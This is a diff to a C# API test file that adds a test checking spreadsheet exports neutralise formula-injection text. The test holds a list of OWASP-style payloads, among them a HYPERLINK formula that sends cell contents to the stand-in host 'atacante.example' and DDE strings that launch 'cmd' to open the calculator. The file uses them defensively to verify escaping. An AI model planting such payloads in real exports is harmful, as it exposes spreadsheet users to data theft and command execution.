@@ -143,7 +143,9 @@ public sealed partial class ExportacionTests(ApiFactory factory) : PruebaApi(fac
             var (csv, cuerpoCsv) = await DescargarAsync($"/api/v1/compromisos?formato=csv&{consulta}");
             Assert.Equal("text/csv", csv.Content.Headers.ContentType!.MediaType);
             Assert.Equal("utf-8", csv.Content.Headers.ContentType.CharSet);
-            IgualesA(esperado, LeerCsv(cuerpoCsv), $"csv, {consulta}");
+            // The one text of the record that starts like a formula goes out neutralised in the CSV only.
+            var esperadoCsv = esperado.Select(f => f.Select(v => v.StartsWith('=') ? "'" + v : v).ToArray()).ToList();
+            IgualesA(esperadoCsv, LeerCsv(cuerpoCsv), $"csv, {consulta}");
 
             var (xlsx, cuerpoXlsx) = await DescargarAsync($"/api/v1/compromisos?{consulta}", Xlsx);
             Assert.Equal(Xlsx, xlsx.Content.Headers.ContentType!.MediaType);
@@ -183,6 +185,46 @@ public sealed partial class ExportacionTests(ApiFactory factory) : PruebaApi(fac
         Assert.Equal("attachment", disposicion.DispositionType);
         Assert.Matches("^compromisos-[0-9]{4}-[0-9]{2}-[0-9]{2}\\.csv$", disposicion.FileName!.Trim('"'));
         Assert.Contains("Accept", r.Headers.Vary);
+    }
+
+    /// <summary>The formula-injection texts OWASP lists, through the API: verbatim in JSON and XLSX, inert in the CSV.</summary>
+    private static readonly string[] TextosFormula =
+    [
+        "=HYPERLINK(\"http://atacante.example/?d=\"&A1,\"Ver\")",
+        "+56 9 1234 5678",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "   =1+1",
+        "Texto; =HYPERLINK(\"http://atacante.example\")",
+    ];
+
+    [Fact]
+    public async Task Una_formula_en_un_texto_no_llega_viva_a_la_planilla()
+    {
+        var (p, r, _) = await Escenario.CompromisoPendienteAsync();
+        foreach (var texto in TextosFormula) await Escenario.CompromisoAsync(r, "2010-12", texto);
+
+        var json = (await Escenario.LeerAsync($"/api/v1/compromisos?programaId={p}&limit=200"))["items"]!.AsArray()
+            .Skip(1).Select(c => (string)c!["texto"]!).ToList();
+        Assert.Equal(TextosFormula, json);
+
+        var csv = LeerCsv((await DescargarAsync($"/api/v1/compromisos?formato=csv&programaId={p}")).Cuerpo).Skip(2).Select(f => f[8]).ToList();
+        Assert.Equal(TextosFormula[..^1].Select(t => "'" + t).Append(TextosFormula[^1]), csv);
+        // The semicolon is inside a quoted field, so a spreadsheet that splits on ';' can't start a cell at "=HYPERLINK".
+        var crudo = Encoding.UTF8.GetString((await DescargarAsync($"/api/v1/compromisos?formato=csv&programaId={p}")).Cuerpo);
+        Assert.Contains(",\"Texto; =HYPERLINK(\"\"http://atacante.example\"\")\",", crudo, StringComparison.Ordinal);
+
+        var xlsx = (await DescargarAsync($"/api/v1/compromisos?formato=xlsx&programaId={p}")).Cuerpo;
+        Assert.Equal(TextosFormula, LeerXlsx(xlsx).Skip(2).Select(f => f[8]));
+        using var zip = new ZipArchive(new MemoryStream(xlsx), ZipArchiveMode.Read);
+        using var hoja = new StreamReader(zip.GetEntry("xl/worksheets/sheet1.xml")!.Open());
+        var xml = XDocument.Parse(await hoja.ReadToEndAsync());
+        XNamespace ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
+        Assert.Empty(xml.Descendants(ns + "f"));
+        Assert.All(xml.Descendants(ns + "c").Where(c => ((string)c.Attribute("r")!).StartsWith('I')),
+            c => Assert.Equal("inlineStr", (string?)c.Attribute("t")));
     }
 
     [Theory]
